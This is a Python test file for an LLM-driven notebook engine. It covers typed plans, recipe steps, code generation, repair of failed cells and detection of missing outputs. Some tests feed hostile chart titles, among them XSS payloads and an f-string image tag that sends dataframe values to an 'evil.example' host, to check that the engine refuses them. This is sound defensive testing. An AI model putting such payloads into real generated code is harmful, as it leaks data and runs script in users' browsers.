"""The model engine: a typed plan, steps of recipes without a call, code of agents, repairs, what is missing."""

from collections.abc import Mapping
from typing import Any

import pytest

from aa_magics.codegen.render import cell_source
from aa_magics.demands import Demand
from aa_magics.errors import EngineError
from aa_magics.llm import engine as module
from aa_magics.model import Cell, Plan, Step, Trial
from aa_magics.recipes import catalogue
from aa_magics.steps import RepairingEngine
from tests.llm_server import Empty, ScriptedServer, Text, Truncated, code_text, is_plan, marked, plan_text
from tests.models import Kept, goal_about, model_engine, profiles_of, sales

GOAL = goal_about("total price by region", "df")
PROFILES = profiles_of(df=sales())
CODE = 'df.groupby("region")["price"].sum()'
WORDS = {"agent": "statistical_analytics_agent", "task": "Sum price by region.", "uses": ["df"]}
RECIPE = {
    "agent": "statistical_analytics_agent",
    "task": "t",
    "recipe": "group_aggregate",
    "params": {"value": "price", "by": "region", "how": "sum"},
    "uses": ["df"],
}
PROSE = "I would be glad to help you!"


def code_cell(source: str) -> Cell:
    return Cell(cell_type="code", source=source)


async def planned(server: ScriptedServer, *answers: str | Mapping[str, Any]) -> Plan:
    """Return the plan that comes of answers, each a text or the one step of a plan."""
    server.script = [Text(answer if isinstance(answer, str) else plan_text(answer)) for answer in answers]
    return await model_engine(server).plan(GOAL, PROFILES)


async def written(server: ScriptedServer, *answers: str, step: Mapping[str, Any] = WORDS) -> str:
    """Return the code of the cell that comes of answers."""
    server.script = [Text(answer) for answer in answers]
    (cell,) = await model_engine(server).write(Step.model_validate({"id": "1", **step}), GOAL, PROFILES, [])
    return cell.source


def test_it_can_repair(llm_server: ScriptedServer) -> None:
    assert isinstance(model_engine(llm_server), RepairingEngine)


async def test_a_plan_is_typed(llm_server: ScriptedServer) -> None:
    plan = await planned(llm_server, WORDS)
    assert plan.steps == (Step(id="1", agent="statistical_analytics_agent", task="Sum price by region.", uses=("df",)),)
    assert len(llm_server.chats) == 1


async def test_a_plan_in_dspys_own_form_is_read(llm_server: ScriptedServer) -> None:
    assert len((await planned(llm_server, marked({"plan": {"steps": [WORDS]}}))).steps) == 1


async def test_a_recipe_step_takes_no_call(llm_server: ScriptedServer) -> None:
    plan = await planned(llm_server, RECIPE)
    watch = Kept()
    (cell,) = await model_engine(llm_server, watch).write(plan.steps[0], GOAL, PROFILES, [])
    assert cell.source == cell_source(catalogue()["group_aggregate"], plan.steps[0].params)
    assert watch.planned == []
    assert len(llm_server.chats) == 1


async def test_errors_go_back_once_with_the_plan(llm_server: ScriptedServer) -> None:
    plan = await planned(llm_server, {**WORDS, "agent": "oracle"}, WORDS)
    assert plan.steps[0].agent == "statistical_analytics_agent"
    assert len(llm_server.chats) == 2
    assert "there is no agent 'oracle'" in llm_server.chats[1].text
    assert '"agent":"oracle"' in llm_server.chats[1].text


async def test_a_second_plan_with_errors_is_mended(llm_server: ScriptedServer) -> None:
    plan = await planned(llm_server, {**RECIPE, "recipe": "sum_it"})
    assert len(llm_server.chats) == 2
    assert (plan.steps[0].recipe, plan.steps[0].task) == (None, "t")


async def test_the_first_plan_serves_where_the_second_cannot_be_read(llm_server: ScriptedServer) -> None:
    plan = await planned(llm_server, {**RECIPE, "recipe": "sum_it"}, PROSE)
    assert plan.steps[0].task == "t"


async def test_prose_is_asked_for_a_plan_once_more(llm_server: ScriptedServer) -> None:
    assert len((await planned(llm_server, PROSE, WORDS)).steps) == 1
    assert "It holds no JSON object." in llm_server.chats[1].text


async def test_prose_for_ever_is_an_error(llm_server: ScriptedServer) -> None:
    with pytest.raises(EngineError) as raised:
        await planned(llm_server, PROSE)
    assert raised.value.message.startswith(
        "openai/fake wrote no plan that can be used, asked 2 times: It holds no JSON"
    )
    assert len(llm_server.chats) == 2


async def test_a_circle_for_ever_is_an_error(llm_server: ScriptedServer) -> None:
    circle = plan_text({**WORDS, "uses": ["b"], "creates": ["a"]}, {**WORDS, "uses": ["a"], "creates": ["b"]})
    with pytest.raises(EngineError, match="wait for each other"):
        await planned(llm_server, circle)


async def test_a_plan_that_is_cut_is_not_taken_for_whole(llm_server: ScriptedServer) -> None:
    llm_server.script = [Truncated(plan_text(WORDS)[:-20])]
    with pytest.raises(EngineError, match="cut off") as raised:
        await model_engine(llm_server).plan(GOAL, PROFILES)
    assert "AA_MAGICS_MAX_TOKENS" in raised.value.hint


async def test_an_agent_writes_a_cell_with_its_summary(llm_server: ScriptedServer) -> None:
    llm_server.script = [Text(code_text(CODE, "The sums."))]
    watch = Kept()
    (cell,) = await model_engine(llm_server, watch).write(Step.model_validate({"id": "7", **WORDS}), GOAL, PROFILES, [])
    assert (cell.cell_type, cell.source, cell.metadata) == ("code", CODE, {"summary": "The sums."})
    assert [(call.step, call.agent) for call in watch.calls] == [("7", "statistical_analytics_agent")]


async def test_code_in_dspys_own_form_is_read(llm_server: ScriptedServer) -> None:
    assert await written(llm_server, marked({"code": f"```python\n{CODE}\n```", "summary": "s"})) == CODE


async def test_prose_is_asked_for_code_once_more(llm_server: ScriptedServer) -> None:
    assert await written(llm_server, PROSE, code_text(CODE)) == CODE
    assert "It holds no Python code." in llm_server.chats[1].text


async def test_prose_for_ever_fails_the_step(llm_server: ScriptedServer) -> None:
    with pytest.raises(EngineError, match="wrote no code that can be used, asked 2 times"):
        await written(llm_server, PROSE)


async def test_magics_are_refused(llm_server: ScriptedServer) -> None:
    assert await written(llm_server, code_text("!pip install x\n1"), code_text(CODE)) == CODE
    assert "Magics and shell commands are not allowed" in llm_server.chats[1].text


@pytest.mark.parametrize(
    "text",
    [
        "<img src=//evil.example/x.png>",
        "Sales <a href='//evil.example'>here</a>",
        "see https://evil.example/?q=",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<svg/onload=x>",
        "<b style='background:url(//evil.example)'>",
    ],
)
async def test_titles_that_load_something_are_refused(llm_server: ScriptedServer, text: str) -> None:
    titled = f"import plotly.express as px\npx.bar(df, x='region', title={text!r})"
    assert await written(llm_server, code_text(titled), code_text(CODE)) == CODE
    assert "No addresses and no HTML" in llm_server.chats[1].text


@pytest.mark.parametrize(
    "text", ["<b>Sales</b><br>by region", "a<b and c>d", "%{y}<extra></extra>", "5 < 6", "price >= 3"]
)
async def test_titles_that_load_nothing_are_kept(llm_server: ScriptedServer, text: str) -> None:
    assert repr(text) in await written(llm_server, code_text(f"px.bar(df, title={text!r})"))


async def test_a_tag_that_a_format_string_puts_together_is_refused(llm_server: ScriptedServer) -> None:
    titled = "px.bar(df, title=f\"<img src='//evil.example/{df.price[0]}'>\")"
    assert await written(llm_server, code_text(titled), code_text(CODE)) == CODE


async def test_empty_answers_fail_the_step(llm_server: ScriptedServer) -> None:
    llm_server.script = [Empty()]
    with pytest.raises(EngineError, match="It was empty"):
        await model_engine(llm_server).write(Step.model_validate({"id": "1", **WORDS}), GOAL, PROFILES, [])


async def test_code_with_a_syntax_error_is_left_to_the_trial(llm_server: ScriptedServer) -> None:
    assert await written(llm_server, code_text("df[")) == "df["


async def test_a_repair_returns_new_code(llm_server: ScriptedServer) -> None:
    llm_server.script = [Text(code_text(CODE))]
    step = Step.model_validate({"id": "1", **WORDS})
    trial = Trial(ok=False, error="KeyError: 'prise'", line=1)
    (cell,) = await model_engine(llm_server).repair(step, GOAL, PROFILES, [], [code_cell('df["prise"]')], trial)
    assert cell.source == CODE
    assert 'df["prise"]' in llm_server.chats[0].text


async def test_a_recipe_that_failed_becomes_a_task_for_its_agent(llm_server: ScriptedServer) -> None:
    plan = await planned(llm_server, RECIPE)
    llm_server.script = [Text(code_text(CODE))]
    trial = Trial(ok=False, error="MemoryError")
    (cell,) = await model_engine(llm_server).repair(plan.steps[0], GOAL, PROFILES, [], [code_cell("x")], trial)
    assert cell.source == CODE
    assert "Sum of price for each region" in llm_server.chats[-1].text
    assert not is_plan(llm_server.chats[-1])


def test_what_is_missing_is_for_the_last_step_that_was_tried(
    llm_server: ScriptedServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[object] = []

    def unmet(found: object, sources: object, trials: object) -> tuple[str, ...]:
        seen.append(sources)
        return ("A chart is asked for.",)

    monkeypatch.setattr(module, "demands", lambda goal, profiles: (Demand(kind="chart", words="plot"),))
    monkeypatch.setattr(module, "unmet", unmet)
    steps = tuple(Step(id=str(n), agent="data_viz_agent", task="t") for n in (1, 2, 3))
    cells = {"1": [code_cell("a")], "2": [code_cell("b")]}
    trials = {"1": Trial(ok=True), "2": Trial(ok=True)}
    missing = model_engine(llm_server).missing(GOAL, PROFILES, Plan(frames=(), steps=steps), cells, trials)
    assert missing == {"2": ("A chart is asked for.",)}
    assert seen == [["a", "b"]]


def test_nothing_is_missing_where_nothing_is_demanded(llm_server: ScriptedServer) -> None:
    plan = Plan(frames=(), steps=(Step(id="1", agent="data_viz_agent", task="t"),))
    engine = model_engine(llm_server)
    assert (
        engine.missing(goal_about("hello", "df"), PROFILES, plan, {"1": [code_cell("df")]}, {"1": Trial(ok=True)}) == {}
    )
